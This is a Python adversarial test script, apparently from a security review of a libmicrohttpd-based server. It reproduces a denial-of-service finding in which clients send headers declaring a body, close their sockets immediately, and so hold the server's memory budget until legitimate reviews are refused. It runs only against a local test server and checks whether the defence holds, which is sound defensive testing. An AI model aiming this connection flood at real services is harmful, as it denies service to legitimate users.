"""ADV finding 4b: a client that sends request headers declaring a body and closes its socket at
once (FIN, nothing else) leaves its budget reservation held for the whole silence timeout (5 s):
libmicrohttpd does not notice the end of the stream of a connection waiting for its body until
that timeout. So a few addresses sending ~130 bytes and closing, 140 times a second (no
open connections kept, no body bytes, ~18 KB/s), keeps the whole 96 MiB budget reserved and ordinary
reviews are refused 429 even with the API server's retries.
  f4b_fire_and_forget.py [SECONDS [RATE [RATE_SMALL]]]  (defaults 20, 20, 40: 4 addresses, 140 connections/s). Exit 1 when under half pass."""
import os, socket, sys, threading, time
sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from advlib import Server, post, head, TYPICAL

secs = float(sys.argv[1]) if len(sys.argv) > 1 else 20
rate = float(sys.argv[2]) if len(sys.argv) > 2 else 20
rate2 = float(sys.argv[3]) if len(sys.argv) > 3 else 40
srv = Server(96, 8)
budget = 96 << 20
small_len = (budget // 64 - (64 << 10) - 1) // 29   # reservation at budget/64: "small"
stop = time.monotonic() + secs
sent = [0]

def attacker(length, rate, src):
    nxt = time.monotonic()
    while time.monotonic() < stop:
        s = socket.socket()
        s.bind((src, 0))
        try:
            s.connect(("127.0.0.1", srv.port))
            s.sendall(head(length))
            sent[0] += 1
        except OSError:
            pass
        s.close()
        nxt += 1 / rate
        time.sleep(max(0, nxt - time.monotonic()))

# 1.5 MiB reservations fill the budget; 64 KiB ones (Content-Length 0..1) fill the gaps the
# expiring ones leave, before a legit review (~100 KiB) can take them.
atk = [threading.Thread(target=attacker, args=(small_len, rate, "127.0.0.2"))] + \
      [threading.Thread(target=attacker, args=(1, rate2, "127.0.0.%d" % (3 + i))) for i in range(int(os.environ.get("ADV_SMALL_ADDRS", "3")))]
[a.start() for a in atk]
time.sleep(5)
held = srv.stats()["inflight"]
legit, lk = [], threading.Lock()

def legit_one():
    t0 = time.monotonic()
    for n in range(11):
        st, _, _ = post(srv.port, TYPICAL, timeout=10, src="127.0.0.9")
        if st != 429 or time.monotonic() - t0 > 9:
            break
        time.sleep(1)
    with lk:
        legit.append(st)

lts = []
while time.monotonic() < stop - 10:
    t = threading.Thread(target=legit_one); t.start(); lts.append(t)
    time.sleep(0.5)
[t.join() for t in lts]
[a.join() for a in atk]
time.sleep(6)
after = srv.stats()["inflight"]
srv.stop()
ok = legit.count(200)
print("attacker: 4 addresses, headers (Content-Length %d at %.0f/s, 1 at 3 x %.0f/s) then close: %d connections in %.0f s; "
      "budget reserved after 5 s: %.1f of 96 MiB" % (small_len, rate, rate2, sent[0], secs, held / 2**20))
print("legit typical reviews, each retried on 429 after 1 s for up to 10 s: %d of %d answered 200; in flight 6 s after: %d"
      % (ok, len(legit), after))
sys.exit(1 if ok * 2 < len(legit) else 0)
